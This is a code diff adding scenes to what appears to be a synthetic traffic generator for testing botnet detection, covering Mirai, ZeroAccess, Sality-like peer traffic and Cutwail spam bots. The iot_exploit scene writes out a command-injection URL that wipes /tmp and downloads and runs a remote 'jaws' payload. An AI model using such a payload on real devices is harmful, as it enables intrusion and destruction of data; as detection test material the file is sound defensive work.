@@ -221,6 +221,75 @@ def unknown_generator(random, capture):
     return {"nxdomain-burst": bots, "generated-names": bots}
 
 
+@scene
+def mirai_c2_session(random, capture):
+    bots = hosts(random, 5)
+    for bot in bots:
+        capture.talk(START + random.random() * 600, bot, port(random), outside(random), 23,
+                     [(True, b"\0\0\0\x01\x05tel.x")] + [(True, b"\0\0"), (False, b"\0\0")] * 20, length=1200)
+    return {"mirai-c2": bots}
+
+
+@scene
+def iot_exploit(random, capture):
+    bots = hosts(random, 5)
+    for bot in bots:
+        for _ in range(30):
+            to = outside(random)
+            path = f"/shell?cd+/tmp;rm+-rf+*;wget+http://{outside(random)}/jaws;sh+/tmp/jaws"
+            capture.talk(START + random.random() * 3000, bot, port(random), to, random.choice([80, 8080]),
+                         [(True, malware.http(to, path, agent="Hello, world")), (False, b"HTTP/1.1 404 Not Found\r\n\r\n")])
+    return {"iot-exploit-probe": bots}
+
+
+@scene
+def zeroaccess_check_in(random, capture):
+    bots = hosts(random, 5)
+    for bot in bots:
+        at, to = START + random.random() * 1800, outside(random)
+        capture.udp(at, bot, port(random), to, 53, random.randbytes(8) + b"\x3f\x1c" + random.randbytes(10))
+        capture.udp(at + 5, bot, port(random), to, 123, b"GN" + random.randbytes(18))
+    return {"zeroaccess-install": bots}
+
+
+@scene
+def peer_to_peer_of_one_port(random, capture):
+    """Sality's kind: one high port, many peers, small messages both ways, again and again."""
+    bots = hosts(random, 5)
+    for bot in bots:
+        local, peers = random.randrange(2000, 60000), [(outside(random), port(random)) for _ in range(300)]
+        for round_ in range(2):
+            for to, there in peers:
+                at, size = START + round_ * 1700 + random.random() * 1500, random.randrange(20, 60)
+                capture.udp(at, bot, local, to, there, random.randbytes(size))
+                if random.random() < 0.6:
+                    capture.udp(at + 0.2, to, there, bot, local, random.randbytes(size))
+    return {"udp-fan-out": bots}
+
+
+@scene
+def cutwail_greeting(random, capture):
+    bots = hosts(random, 5)
+    for bot in bots:
+        for _ in range(40):
+            capture.talk(START + random.random() * 3000, bot, port(random), outside(random), 25,
+                         [(True, b"EHLO ylmf-pc\r\n"), (False, b"220 mx ESMTP\r\n250 hello\r\n"), (True, b"AUTH LOGIN\r\n")])
+    return {"cutwail-smtp": bots}
+
+
+@scene
+def cutwail_tries_mail(random, capture):
+    bots = hosts(random, 5)
+    servers = ["smtp.live.com", "smtp.mail.yahoo.com", "smtp.sbcglobal.yahoo.com", "smtp.directcon.net", "mail.airmail.net",
+               "smtp.compuserve.com"]
+    for bot in bots:
+        for n, server in enumerate(servers):
+            at, to = START + 60 * n, outside(random)
+            capture.dns(at, bot, RESOLVER, server, address=to)
+            capture.talk(at + 0.3, bot, port(random), to, 25, [(False, b"220 mail ESMTP\r\n")])
+    return {"cutwail-mail-test": bots}
+
+
 # Conduct that looks like it and is not: nobody is to be named.
 
 @scene
